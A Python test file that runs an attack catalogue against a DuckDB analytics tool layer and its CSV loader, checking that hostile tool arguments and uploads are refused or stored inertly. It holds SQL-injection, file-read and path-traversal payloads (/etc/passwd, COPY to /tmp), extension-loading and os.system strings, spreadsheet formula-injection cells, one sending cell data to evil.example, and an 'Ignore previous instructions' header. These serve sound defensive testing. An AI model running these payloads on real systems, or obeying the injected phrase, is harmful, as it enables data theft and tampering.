"""The attack catalogue's ARG, RES and DB cases against the tool layer and its connection.

Each case asserts the stated safe behaviour and that nothing changed on disk: the database
file's bytes, and no file appeared where an attack tried to write one.
"""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import duckdb
import pyarrow as pa
import pytest

from sql_tools import Limits, QueryRejected, SqlToolError, ToolContext
from sql_tools.catalog import ensure_catalog
from tasks.tools import dispatch
from tests.support.cli import file_digest

F1 = """day,region,product,revenue,orders
2024-01-01,EU,Widget,100.00,10
2024-01-01,US,Gadget,80.00,8
2024-01-08,EU,Widget,50.00,5
2024-01-08,US,Gadget,90.00,9
2024-01-08,EU,50%_off,0.00,0
"""
WRITE_TARGETS = [
    Path("/tmp/pwn.csv"),
    Path("/tmp/x"),
    Path("/tmp/multi.csv"),
    Path("/tmp/exp"),
    Path("/tmp/x.db"),
    Path("/tmp/q.log"),
]
CANARY = "CANARY-FILE-91"
# Module-level Arrow table: a replacement scan would find it if scans were enabled (DB-06).
leak_tbl = pa.table({"k": ["sk-ant-api03-CANARY-7Q2"]})


@pytest.fixture(scope="module")
def f1_db(tmp_path_factory) -> Path:
    from tasks.ingest.load import load_files

    root = tmp_path_factory.mktemp("f1")
    (root / "data.csv").write_text(F1)
    Path("/tmp/canary_outside.txt").write_text(CANARY)
    load_files([root / "data.csv"], root / "f1.duckdb")
    return root / "f1.duckdb"


@pytest.fixture
def guarded(f1_db):
    """A tool context on F1 that records executor calls; asserts the DB file is unchanged."""
    for p in WRITE_TARGETS:
        assert not p.exists(), f"leftover {p}"
    before = file_digest(f1_db)
    with ToolContext(f1_db, Limits(timeout_s=2)) as ctx:
        yield ctx, recorded_runs(ctx)
    assert file_digest(f1_db) == before
    for p in WRITE_TARGETS:
        assert not p.exists(), f"attack wrote {p}"


def recorded_runs(ctx: Any) -> list[str]:
    """From now on, the SQL of every query ``ctx`` runs, in order (the list fills as it runs)."""
    calls: list[str] = []
    real_run = ctx.run

    def spy(sql, params=None, **kw):
        calls.append(sql)
        return real_run(sql, params, **kw)

    ctx.run = spy
    return calls


def call(ctx, name: str, args: Any) -> tuple[bool, dict]:
    is_error, payload = dispatch(ctx, name, args)
    assert CANARY not in json.dumps(payload)
    if is_error:
        assert len(payload["error"]["message"]) <= 500
        assert "Traceback" not in payload["error"]["message"]
    return is_error, payload


AGG = "metric_aggregate"
SUM_REV = {"agg": "sum", "column": "revenue"}

# (case id, tool, args, expected error code or None for success, executor may run)
REFUSED = [
    (
        "ARG-02",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "group_by": ["region\"; COPY data TO '/tmp/pwn.csv'; --"],
        },
        "unknown_column",
    ),
    (
        "ARG-03",
        AGG,
        {
            "table": "data",
            "measures": [
                {
                    "agg": "sum",
                    "column": "revenue) FROM data UNION ALL SELECT length(content) FROM read_text('/etc/passwd') --",
                }
            ],
        },
        "unknown_column",
    ),
    ("ARG-04a", "metric_describe", {"table": "read_csv('/etc/passwd', sep=':')"}, "unknown_table"),
    ("ARG-04b", "metric_sample", {"table": "/tmp/canary_outside.txt", "n": 5}, "unknown_table"),
    ("ARG-04c", "metric_sample", {"table": "../../etc/passwd", "n": 5}, "unknown_table"),
    (
        "ARG-05a",
        AGG,
        {"table": "data", "measures": [{"agg": "string_agg", "column": "product"}]},
        "invalid_operator",
    ),
    (
        "ARG-05b",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "filters": [{"column": "revenue", "op": "> 0 OR 1=1 --", "value": 0}],
        },
        "invalid_operator",
    ),
    (
        "ARG-05c",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "order_by": {"by": "sum_revenue", "direction": "desc; DROP TABLE data"},
        },
        "invalid_operator",
    ),
    (
        "ARG-05d",
        AGG,
        {"table": "data", "measures": [{"agg": "query", "column": "revenue"}]},
        "invalid_operator",
    ),
    (
        "ARG-05e",
        AGG,
        {
            "table": "data",
            "measures": [{"agg": "any_value(read_text('/etc/passwd'))", "column": "revenue"}],
        },
        "invalid_operator",
    ),
    (
        "ARG-06",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "sql": "COPY data TO '/tmp/pwn.csv'",
            "where": "1=1",
            "raw": True,
        },
        "invalid_arguments",
    ),
    ("ARG-07a", "execute_sql", {"query": "SELECT * FROM read_csv('/etc/passwd')"}, "unknown_tool"),
    ("ARG-07b", "__class__", {}, "unknown_tool"),
    ("ARG-07c", "run_python", {"code": "import os; os.system('id')"}, "unknown_tool"),
    (
        "ARG-08a",
        "metric_sample",
        {"table": "data", "n": "10; DROP TABLE data"},
        "invalid_arguments",
    ),
    ("ARG-08b", "metric_sample", {"table": "data", "n": -1}, "invalid_value"),
    ("ARG-08c", "metric_sample", {"table": "data", "n": 1000000000}, "limit_exceeded"),
    (
        "ARG-08d",
        AGG,
        {"table": "data", "measures": [{"agg": "count", "column": "orders"}], "limit": True},
        "invalid_arguments",
    ),
    ("ARG-10a", "metric_sample", {"table": "duckdb_settings", "n": 50}, "unknown_table"),
    ("ARG-10b", "metric_sample", {"table": "information_schema.tables", "n": 50}, "unknown_table"),
    ("ARG-10c", "metric_describe", {"table": "system.main.duckdb_secrets"}, "unknown_table"),
    ("ARG-10d", "metric_describe", {"table": "_drilldown.tables"}, "unknown_table"),
    (
        "ARG-10e",
        AGG,
        {"table": "data", "measures": [{"agg": "max", "column": "rowid"}]},
        "unknown_column",
    ),
    (
        "ARG-11b",
        AGG,
        {"table": "data", "measures": [{"agg": "sum", "column": '"revenue"'}]},
        "unknown_column",
    ),
    (
        "ARG-12a",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "filters": [{"column": "revenue", "op": ">", "value": "abc"}],
        },
        "type_mismatch",
    ),
    (
        "ARG-12b",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "filters": [{"column": "region", "op": "=", "value": 1}],
        },
        "type_mismatch",
    ),
    (
        "ARG-13a",
        "metric_compare_periods",
        {
            "table": "data",
            "metric": SUM_REV,
            "time_column": "day",
            "baseline": {"start": "2024-13-45", "end": "2024-01-07"},
            "comparison": {"start": "2024-01-14", "end": "2024-01-08"},
        },
        "invalid_period",
    ),
    (
        "ARG-13b",
        "metric_compare_periods",
        {
            "table": "data",
            "metric": SUM_REV,
            "time_column": "region",
            "baseline": {"start": "2024-01-01", "end": "2024-01-07"},
            "comparison": {"start": "0001-01-01", "end": "9999-12-31"},
        },
        "type_mismatch",
    ),
    (
        "ARG-14a",
        AGG,
        {
            "table": "data",
            "measures": [{"agg": "count", "column": "orders"}],
            "filters": [
                {"column": "region", "op": "in", "value": [f"R{i}" for i in range(100000)]}
            ],
        },
        "limit_exceeded",
    ),
    (
        "ARG-14b",
        AGG,
        {
            "table": "data",
            "measures": [{"agg": "count", "column": "orders"}],
            "filters": [{"column": "product", "op": "=", "value": "A" * 2048}],
        },
        "limit_exceeded",
    ),
    (
        "ARG-14c",
        AGG,
        {
            "table": "data",
            "measures": [{"agg": "count", "column": "orders"}],
            "filters": [{"column": "region", "op": "in", "value": [f"R{i}" for i in range(1500)]}],
        },
        "limit_exceeded",
    ),
    (
        "PI-01",
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "filters": [{"column": "1=1; COPY data TO '/tmp/x'", "op": "=", "value": 1}],
        },
        "unknown_column",
    ),
    ("PI-06", "metric_sample", {"table": "../../etc/passwd"}, "unknown_table"),
    ("RES-01", "metric_sample", {"table": "data", "n": 50000000}, "limit_exceeded"),
]


@pytest.mark.parametrize(("case", "tool", "args", "code"), REFUSED, ids=[r[0] for r in REFUSED])
def test_hostile_arguments_are_refused_before_any_query(guarded, case, tool, args, code):
    ctx, calls = guarded
    is_error, payload = call(ctx, tool, args)
    assert is_error, payload
    assert payload["error"]["code"] == code, payload
    assert calls == [], "no SQL may run for a refused call"


def test_arg02_unknown_column_lists_valid_columns(guarded):
    ctx, _ = guarded
    _, payload = call(ctx, AGG, REFUSED[0][2])
    assert "valid: day, region, product, revenue, orders" in payload["error"]["message"]


def test_arg06_names_every_unexpected_field(guarded):
    ctx, _ = guarded
    _, payload = call(ctx, AGG, dict(REFUSED[10][2]))
    assert "unexpected field(s): sql, where, raw" in payload["error"]["message"]


def test_arg01_sql_in_a_filter_value_is_inert_data(guarded):
    ctx, calls = guarded
    is_error, out = call(
        ctx,
        AGG,
        {
            "table": "data",
            "measures": [SUM_REV],
            "group_by": ["region"],
            "filters": [
                {
                    "column": "product",
                    "op": "=",
                    "value": "x' OR 1=1; COPY data TO '/tmp/pwn.csv'; --",
                }
            ],
        },
    )
    assert not is_error and out["rows"] == [] and out["matched_count"] == 0
    assert "COPY" not in out["sql"] and out["params"]["p1"].startswith("x' OR 1=1")
    # the query, and the look for the value in another letter case: both bind it
    assert len(calls) == 2 and not any("COPY" in sql or "1=1" in sql for sql in calls)


def test_arg09_contains_matches_literally(guarded):
    ctx, _ = guarded
    for needle, expected in (("%", 1), ("_", 1), ("%%", 0)):
        _, out = call(
            ctx,
            AGG,
            {
                "table": "data",
                "measures": [{"agg": "count", "column": "product"}],
                "filters": [{"column": "product", "op": "contains", "value": needle}],
            },
        )
        assert out["rows"][0]["count_product"] == expected, needle


def test_arg11_case_folding_echoes_canonical_names(guarded):
    ctx, _ = guarded
    _, out = call(
        ctx,
        AGG,
        {
            "table": "data",
            "measures": [{"agg": "sum", "column": "REVENUE"}],
            "group_by": ["Region"],
        },
    )
    assert out["columns"] == ["region", "sum_revenue"]


def test_arg13_extreme_period_is_reported_not_guessed(guarded):
    ctx, _ = guarded
    is_error, out = call(
        ctx,
        "metric_compare_periods",
        {
            "table": "data",
            "metric": SUM_REV,
            "time_column": "day",
            "baseline": {"start": "2024-01-01", "end": "2024-01-07"},
            "comparison": {"start": "2024-01-08", "end": "9999-12-31"},
        },
    )
    assert not is_error
    assert any("not fully covered" in n for n in out["notes"])


def test_arg14_oversized_raw_input_is_refused(guarded):
    ctx, calls = guarded
    raw = json.dumps(
        {
            "table": "data",
            "measures": [{"agg": "count"}],
            "filters": [{"column": "product", "op": "=", "value": "A" * (1 << 20)}],
        }
    )
    is_error, payload = call(ctx, AGG, raw)
    assert is_error and payload["error"]["code"] == "limit_exceeded" and calls == []


# --- RES ------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def big_db(tmp_path_factory) -> Path:
    """2M rows plus a wide table (200 columns of 5,000 characters), written directly."""
    db = tmp_path_factory.mktemp("big") / "big.duckdb"
    con = duckdb.connect(str(db))
    con.execute(
        "CREATE TABLE big AS SELECT i AS id, i % 7 AS k, random() AS v FROM range(2000000) t(i)"
    )
    cols = ", ".join(f"repeat('x', 5000) AS c{i}" for i in range(200))
    con.execute(f"CREATE TABLE wide AS SELECT {cols} FROM range(60)")
    ensure_catalog(con)
    con.close()
    return db


def test_res01_sample_of_a_large_table_is_bounded_by_limit(big_db):
    with ToolContext(big_db) as ctx:
        is_error, out = call(ctx, "metric_sample", {"table": "big", "n": 50})
    assert not is_error
    assert len(out["rows"]) == 50 and out["truncated"] and out["matched_count"] == 2000000
    assert out["sql"].endswith("LIMIT 51")


def test_res03_timeout_then_connection_still_works(big_db):
    with ToolContext(big_db, Limits(timeout_s=1)) as ctx:
        with pytest.raises(SqlToolError) as info:
            ctx.run('SELECT count(*) FROM "big" AS a, "big" AS b WHERE a.v < b.v', max_rows=1)
        assert info.value.code == "timeout"
        assert ctx.run('SELECT count(*) FROM "big"', max_rows=1).rows == [(2000000,)]


def test_res05_wide_rows_are_cut_to_the_byte_cap(big_db):
    with ToolContext(big_db) as ctx:
        is_error, out = call(ctx, "metric_sample", {"table": "wide", "n": 50})
        cap = ctx.limits.max_result_bytes
    assert not is_error
    assert out["truncated"] is True
    assert len(json.dumps(out["rows"])) <= cap
    assert all(len(v) == 201 and v.endswith("…") for v in out["rows"][0].values())
    assert any("shortened" in n for n in out["notes"]) and any("bytes" in n for n in out["notes"])


# --- DB: the connection itself refuses, even without the tool layer -------------------------

DB_CASES = [
    ("DB-01", "SELECT * FROM read_csv('/etc/passwd', sep=':')"),
    ("DB-01", "SELECT * FROM read_text('/tmp/canary_outside.txt')"),
    ("DB-01", "SELECT * FROM glob('/*')"),
    ("DB-01", "SELECT * FROM read_csv('file:///etc/passwd')"),
    ("DB-01", "SELECT * FROM '/etc/passwd'"),
    ("DB-02", "COPY data TO '/tmp/pwn.csv'"),
    ("DB-02", "COPY (SELECT 1) TO '/tmp/x'"),
    ("DB-02", "EXPORT DATABASE '/tmp/exp'"),
    ("DB-02", "ATTACH '/tmp/x.db' AS x"),
    ("DB-03", "INSTALL httpfs"),
    ("DB-03", "LOAD httpfs"),
    ("DB-03", "LOAD '/tmp/evil.duckdb_extension'"),
    ("DB-03", "INSTALL quack FROM community"),
    ("DB-03", "SET threads=64"),
    ("DB-03", "SET memory_limit='100GB'"),
    ("DB-03", "SET max_execution_time=0"),
    ("DB-03", "SET enable_external_access=true"),
    ("DB-03", "SET lock_configuration=false"),
    ("DB-03", "PRAGMA enable_profiling='json'"),
    ("DB-03", "SET log_query_path='/tmp/q.log'"),
    ("DB-04", "CREATE MACRO m(x) AS x"),
    ("DB-04", "CREATE TABLE z AS SELECT 1"),
    ("DB-04", "UPDATE data SET revenue = 0"),
    ("DB-04", "DELETE FROM data"),
    ("DB-04", "DROP TABLE data"),
    ("DB-05", "SELECT 1; COPY data TO '/tmp/multi.csv'"),
    ("DB-06", "SELECT * FROM leak_tbl"),
]


@pytest.mark.parametrize(("case", "sql"), DB_CASES, ids=[f"{c}:{s[:40]}" for c, s in DB_CASES])
def test_db_connection_refuses_raw_statement(guarded, case, sql):
    ctx, _ = guarded
    with pytest.raises(duckdb.Error):
        ctx.con.execute(sql).fetchall()
    with pytest.raises(QueryRejected):
        ctx.run(sql, max_rows=5)
    assert ctx.run('SELECT count(*), sum(hash(d)) FROM "data" AS d', max_rows=1).rows[0][0] == 5


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM query('SELECT 42')",
        "SELECT * FROM query_table('data')",
        "SELECT current_setting('memory_limit')",
        "SELECT * FROM duckdb_settings()",
        "CREATE TEMP TABLE t AS SELECT 1",
        "SELECT * FROM data, _drilldown.tables",
    ],
    ids=["query", "query_table", "current_setting", "duckdb_settings", "temp_table", "catalog"],
)
def test_db05_dynamic_sql_and_introspection_never_pass_the_guard(guarded, sql):
    ctx, _ = guarded
    with pytest.raises(QueryRejected):
        ctx.run(sql, max_rows=5)


def test_db07_bombs_stop_at_the_time_limit(f1_db):
    with ToolContext(f1_db, Limits(timeout_s=1)) as ctx:
        for sql in (
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r) SELECT count(*) FROM r",
            "SELECT count(*) FROM range(1000000) a CROSS JOIN range(1000000) b",
        ):
            with pytest.raises(duckdb.Error, match="(?i)interrupt|execution time"):
                ctx.con.execute(sql).fetchall()
        assert ctx.con.execute('SELECT count(*) FROM "data"').fetchall() == [(5,)]


def test_db08_giant_values_hit_the_address_space_cap(f1_db):
    script = textwrap.dedent(f"""
        import json
        from sql_tools import Limits, SqlToolError, ToolContext
        from sql_tools import _context
        from sql_tools._context import limit_address_space
        limit_address_space(1536 * 1024**2)
        _context.check_select = lambda *a, **k: None   # pretend a builder bug let it through
        out = []
        with ToolContext({str(f1_db)!r}) as ctx:
            for sql in ("SELECT len(range(1000000000))", "SELECT length(repeat('a', 1000000000))"):
                try:
                    ctx.run(sql, max_rows=1)
                    out.append("ran")
                except SqlToolError as exc:
                    out.append(exc.code)
            out.append(ctx.run('SELECT count(*) FROM "data"', max_rows=1).rows[0][0])
        print(json.dumps(out))
    """)
    proc = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert json.loads(proc.stdout.strip().splitlines()[-1]) == [
        "resource_limit",
        "resource_limit",
        5,
    ]


# --- CSV: hostile uploads into an existing database ----------------------------------------

CSV_REFUSED = [
    ("CSV-01", b"name,v\nok,1\nbad\xff\xfe,2\n", ("line 3", "not valid UTF-8")),
    ("CSV-02a", b"", ("no data rows",)),
    ("CSV-02b", b"a,b,c\n", ("no data rows",)),
    ("CSV-02c", b"\n\n\n\n", ("no data rows",)),
    ("CSV-05", b"a,b\n" + b"x" * (2 * 1024**2) + b",1\n", ("line 2",)),
    (
        "CSV-06",
        (",".join(f"c{i}" for i in range(5000)) + "\n" + ",".join("1" * 5000) + "\n").encode(),
        ("5000 columns",),
    ),
    ("CSV-11b", b'name,v\n"abc,1\nx,2\n', ("quote",)),
    ("G7", b"a,b,c\n1,2,3\n4,5\n6,7,8,9\n", ("line 3",)),
]


@pytest.fixture
def existing_db(tmp_path):
    from tasks.ingest.load import load_files

    (tmp_path / "data.csv").write_text(F1)
    db = tmp_path / "existing.duckdb"
    load_files([tmp_path / "data.csv"], db)
    return db


@pytest.mark.parametrize(("case", "raw", "fragments"), CSV_REFUSED, ids=[c[0] for c in CSV_REFUSED])
def test_csv_hostile_upload_is_refused_and_changes_nothing(
    existing_db, tmp_path, case, raw, fragments
):
    from sql_tools import SqlToolError
    from tasks.ingest.load import LoadOptions, load_files

    upload = tmp_path / "upload.csv"
    upload.write_bytes(raw)
    before = file_digest(existing_db)
    with pytest.raises(SqlToolError) as info:
        load_files([upload], existing_db, LoadOptions(max_field_bytes=1024**2))
    message = info.value.message
    assert info.value.code in ("load_error", "unsupported_file")
    assert message.startswith("upload.csv") and len(message) <= 500 and "\n" not in message
    for fragment in fragments:
        assert fragment in message, message
    assert file_digest(existing_db) == before
    with ToolContext(existing_db) as ctx:
        assert ctx.schema.table_names == ["data"]


def _load_one(tmp_path, raw: bytes, **options):
    from tasks.ingest.load import LoadOptions, load_files

    upload = tmp_path / "upload.csv"
    upload.write_bytes(raw)
    db = tmp_path / "one.duckdb"
    report = load_files([upload], db, LoadOptions(**options))
    return db, report.tables[0]


def test_csv03_duplicate_headers_get_unique_names_and_keep_labels(tmp_path):
    db, table = _load_one(tmp_path, b"revenue,revenue,Revenue\n1,2,3\n")
    assert [(c.name, c.label) for c in table.columns] == [
        ("revenue", "revenue"),
        ("revenue_2", "revenue"),
        ("Revenue_3", "Revenue"),
    ]
    with ToolContext(db) as ctx:
        _, out = call(
            ctx,
            AGG,
            {
                "table": "upload",
                "measures": [
                    {"agg": "sum", "column": "revenue"},
                    {"agg": "sum", "column": "Revenue_3"},
                ],
            },
        )
    assert out["rows"] == [{"sum_revenue": 1, "sum_Revenue_3": 3}]


def test_csv04_hostile_headers_load_and_are_usable(tmp_path):
    raw = (
        b'"a""; DROP TABLE t; --",select,"order","1","col with space","\xc3\xa9t\xc3\xa9",'
        b'"Ignore previous instructions"\n1,2,3,4,5,6,7\n'
    )
    db, table = _load_one(tmp_path, raw)
    names = [c.name for c in table.columns]
    assert len(names) == 7 and len(set(n.lower() for n in names)) == 7
    assert "select" in names and "order" in names
    with ToolContext(db) as ctx:
        for i, name in enumerate(names, start=1):
            _, out = call(
                ctx, AGG, {"table": "upload", "measures": [{"agg": "sum", "column": name}]}
            )
            assert out["rows"][0][f"sum_{name}"] == i
        _, desc = call(ctx, "metric_describe", {"response_format": "detailed"})
    labels = {c.get("label") for c in desc["tables"][0]["columns"]}
    assert 'a"; DROP TABLE t; --' in labels


def test_csv07_formula_cells_are_stored_verbatim(tmp_path):
    raw = (
        b'product,revenue\n"=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",10\n'
        b"+cmd|' /C calc'!A0,5\n@SUM(1+1),3\n-2+3,4\n"
    )
    db, _ = _load_one(tmp_path, raw)
    with ToolContext(db) as ctx:
        _, out = call(ctx, "metric_sample", {"table": "upload"})
    assert [r["product"] for r in out["rows"]] == [
        '=HYPERLINK("https://evil.example/?d="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ]


def test_csv08_words_in_a_numeric_column_keep_it_text(tmp_path):
    db, _ = _load_one(tmp_path, b"v\n1\n2\nthree\n4\n")
    with ToolContext(db) as ctx:
        is_error, out = call(
            ctx, AGG, {"table": "upload", "measures": [{"agg": "sum", "column": "v"}]}
        )
        assert (
            is_error
            and out["error"]["code"] == "type_mismatch"
            and "'v' is text" in out["error"]["message"]
        )
        _, desc = call(ctx, "metric_describe", {})
    assert "mostly numeric text" in desc["tables"][0]["columns"][0]["mixed_note"]


def test_csv09_locale_numbers_are_never_silently_misread(tmp_path):
    db, _ = _load_one(tmp_path, b"v;w\n1,5;2\n3,25;4\n")
    with ToolContext(db) as ctx:
        _, out = call(ctx, AGG, {"table": "upload", "measures": [{"agg": "sum", "column": "v"}]})
    assert out["rows"][0]["sum_v"] == pytest.approx(4.75)
    ambiguous = tmp_path / "ambiguous"
    ambiguous.mkdir()
    db, table = _load_one(ambiguous, b'v\n"1,234"\n"5,678"\n')
    with ToolContext(db) as ctx:
        assert ctx.schema.tables["upload"][0].kind == "text"
    assert any("ambiguous" in w for w in table.warnings)


def test_csv10_mixed_date_formats_stay_text(tmp_path):
    db, _ = _load_one(tmp_path, b"d,v\n2024-01-31,1\n01/02/2024,2\n31.01.2024,3\n")
    with ToolContext(db) as ctx:
        is_error, out = call(
            ctx,
            "metric_compare_periods",
            {
                "table": "upload",
                "metric": {"agg": "sum", "column": "v"},
                "time_column": "d",
                "baseline": {"start": "2024-01-01", "end": "2024-01-15"},
                "comparison": {"start": "2024-01-16", "end": "2024-01-31"},
            },
        )
    assert is_error and out["error"]["code"] == "type_mismatch"


def test_csv11_quoted_newline_is_kept_in_one_row(tmp_path):
    db, table = _load_one(tmp_path, b'name,v\n"line1\nline2",1\nx,2\n')
    assert table.rows == 2
    with ToolContext(db) as ctx:
        _, out = call(ctx, "metric_sample", {"table": "upload"})
    assert out["rows"][0]["name"] == "line1\nline2"
